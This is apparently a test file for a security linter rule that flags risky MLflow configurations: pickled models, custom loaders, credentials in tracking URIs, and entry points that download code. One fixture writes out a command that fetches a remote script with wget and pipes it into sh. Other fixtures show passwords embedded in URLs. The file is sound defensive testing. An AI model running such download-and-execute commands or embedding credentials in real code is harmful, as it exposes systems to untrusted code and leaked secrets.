import rule from '../../../src/rules/pipeline/mlflow.js';
import { testRule } from '../../helpers/rule-tester.js';

const PICKLE = Buffer.from([0x80, 0x04, 0x4b, 0x01, 0x2e]);
const SKOPS_MLMODEL = 'artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.skops\n  sklearn:\n    pickled_model: model.skops\n    serialization_format: skops\n    sklearn_version: 1.5.0\n';

testRule(rule, {
  valid: [
    { name: 'an sklearn model logged with skops', files: { 'mlruns/1/abc/artifacts/model/MLmodel': SKOPS_MLMODEL } },
    { name: 'an MLproject whose entry points run project scripts', files: { 'MLproject': 'name: clf\npython_env: python_env.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.1}\n    command: "python train.py --alpha {alpha}"\n' } },
    { name: 'a tracking URI without credentials', files: { 'train.py': 'import mlflow\nmlflow.set_tracking_uri("https://mlflow.example.com")\n', '.env': 'MLFLOW_TRACKING_URI=https://mlflow.example.com\n' } },
    { name: 'a file named MLmodel.md is not an MLmodel', files: { 'docs/MLmodel.md': 'flavors:\n  sklearn:\n    serialization_format: cloudpickle\n' } },
  ],
  invalid: [
    {
      name: 'an sklearn model pickled with cloudpickle, artifact in the repository',
      files: {
        'models/clf/MLmodel': 'artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n',
        'models/clf/model.pkl': PICKLE,
      },
      errors: [{ path: 'models/clf/MLmodel', line: 8, column: 27, severity: 'medium', message: 'The sklearn flavour stores the model with cloudpickle in models/clf/model.pkl (checked by the model rules); loading it unpickles, which can run code: log it with serialization_format="skops" (or export to ONNX).' }],
    },
    {
      name: 'a pyfunc PythonModel and a whole pickled torch model, artifacts absent',
      files: { 'MLmodel': 'flavors:\n  python_function:\n    cloudpickle_version: 3.0.0\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n  pytorch:\n    model_data: data\n    pickle_module_name: mlflow.pytorch.pickle_module\n' },
      errors: [
        { line: 5, column: 19, message: 'The python_function flavour loads a cloudpickled PythonModel from python_model.pkl, which is not in the repository and so cannot be checked; mlflow.pyfunc.load_model unpickles it, which can run code: log the model with a built-in flavour, or load it only from a registry the team controls.' },
        { line: 8, message: /^The pytorch flavour saved the whole model with mlflow\.pytorch\.pickle_module in data, which is not in the repository/ },
      ],
    },
    {
      name: 'a custom loader module',
      files: { 'm/MLmodel': 'flavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n' },
      errors: [{ line: 3, message: 'The python_function flavour imports the custom loader module my_loader from m/code when the model is loaded: review that code like application code, or use a built-in flavour.' }],
    },
    {
      name: 'an entry point that pipes a download into a shell',
      files: { 'MLproject': 'name: x\nentry_points:\n  main:\n    command: "wget -qO- https://example.invalid/setup.sh | sh && python train.py"\n' },
      errors: [{ line: 4, column: 15, severity: 'high', message: 'Entry point main runs `wget -qO- https://example.invalid/setup.sh | sh`, which downloads code and runs it on every mlflow run: commit the script to the project, or download it to a file and check a pinned checksum first.' }],
    },
    {
      name: 'tracking URIs with credentials in Python, YAML and a workflow',
      files: {
        'train.py': 'import mlflow\nmlflow.set_tracking_uri("https://admin:Passw0rdForMlflow@mlflow.example.com")\n',
        'conf/log.yaml': 'logger:\n  tracking_uri: https://bot:AnotherS3cretValue@ml.example.com/\n',
        '.github/workflows/train.yml': 'on: push\nenv:\n  MLFLOW_TRACKING_URI: https://ci:YetAnotherS3cret@ml.example.com\njobs: {}\n',
      },
      errors: [
        { path: '.github/workflows/train.yml', line: 3, column: 24, severity: 'high', message: /^An MLflow tracking URI carries a password in the URL \(https:\/\/ci:YetA…\[redacted hmac:[0-9a-f]{8}\]@ml\.example\.com\)/ },
        { path: 'conf/log.yaml', line: 2, column: 17, severity: 'high', message: /^An MLflow tracking URI carries a password in the URL/ },
        { path: 'train.py', line: 2, column: 26, severity: 'high', message: /^An MLflow tracking URI carries a password in the URL \(https:\/\/admin:Pass…\[redacted hmac:[0-9a-f]{8}\]@mlflow\.example\.com\): pass it through MLFLOW_TRACKING_USERNAME/ },
      ],
    },
    {
      name: 'an MLmodel that is not valid YAML',
      files: { 'MLmodel': 'flavors: [\n' },
      errors: [{ message: /^MLmodel is not valid YAML/ }],
    },
  ],
});
